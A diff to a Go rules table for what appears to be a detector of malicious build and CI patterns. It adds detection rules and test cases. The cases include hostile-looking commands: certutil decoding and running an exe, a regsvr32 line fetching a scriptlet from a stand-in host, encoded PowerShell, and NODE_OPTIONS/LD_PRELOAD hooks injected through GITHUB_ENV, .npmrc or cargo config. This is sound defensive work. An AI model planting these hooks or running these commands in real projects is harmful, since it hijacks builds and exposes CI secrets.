@@ -52,6 +52,7 @@ var rules = []Rule{
 			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
 			{".github/workflows/w.yml", "jobs:\n  b:\n    steps:\n      - shell: pwsh\n        run: |\n          $s = 'SQBFAFgA'\n          Start-Process powershell -ArgumentList '-NoProfile', '-EncodedCommand', $s", 7, false},
 			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
+			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", whyDownload, []Case{
@@ -78,6 +79,20 @@ var rules = []Rule{
 			{"x.bat", "regsvr32 /s /i:http://x.invalid/s.sct scrobj.dll", 0, false},
 			// Opening a URL in the default browser, as CLIs do.
 			{"open.go", "exec.Command(\"rundll32\", \"url.dll,FileProtocolHandler\", u).Start()", 0, true},
+		}},
+	{"native-load", KindExecute, Medium, "loads a native library (a DLL, .so or .node file)",
+		"a native library runs whatever machine code it holds, which the diff cannot show; in code that runs by itself (an install script, a linter's config) nobody has to call it", []Case{
+			{"lib/x.js", "const b = require('./build/Release/x.node')", 0, false},
+			{"x.py", "lib = ctypes.CDLL('./libfast.so')", 0, false},
+		}},
+	{"build-tool-exec", KindBuildFile, High, "a build tool's config names a program from the tree to run in its place",
+		"every build, test or install then runs that program (cargo's rustc-wrapper and linker, npm's script-shell and node-options), with the runner's network and secrets", []Case{
+			{".cargo/config.toml", "[build]\nrustc-wrapper = \"./tools/wrap.sh\"", 2, false},
+			{".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=mold\"]", 2, true},
+			{".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"", 2, true},
+			{".npmrc", "node-options=--require ./scripts/hook.js", 0, false},
+			{".npmrc", "script-shell=./tools/sh", 0, false},
+			{".npmrc", "engine-strict=true", 0, true},
 		}},
 	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
 		"a build or install step has no window to hide; hiding one keeps what runs out of sight of whoever is at the machine", []Case{
@@ -371,7 +386,12 @@ var rules = []Rule{
 	{"gha-self-hosted", KindCIFile, Medium, "runs on a self-hosted runner",
 		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network", nil},
 	{"gha-env-hijack", KindExecute, High, "sets a variable that makes later steps load code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV)",
-		"every later step of the job, the ones with secrets included, loads what it names", nil},
+		"every later step of the job, the ones with secrets included, loads what it names", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: |\n          \"NODE_OPTIONS=--require ./x.js\" | Out-File -Append $env:GITHUB_ENV", 6, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('NODE_OPTIONS', '--require ./x.js')", 7, false},
+			{"scripts/ci-env.js", "fs.appendFileSync(process.env.GITHUB_ENV, `LD_PRELOAD=${lib}\\n`)", 0, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('CI_SHA', context.sha)", 7, true},
+		}},
 	{"gha-github-env-privileged", KindExecute, High, "writes GITHUB_ENV or GITHUB_PATH in a privileged workflow",
 		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: pr\n      - run: echo \"$GITHUB_WORKSPACE/pr/bin\" >> \"$GITHUB_PATH\"", 10, false},
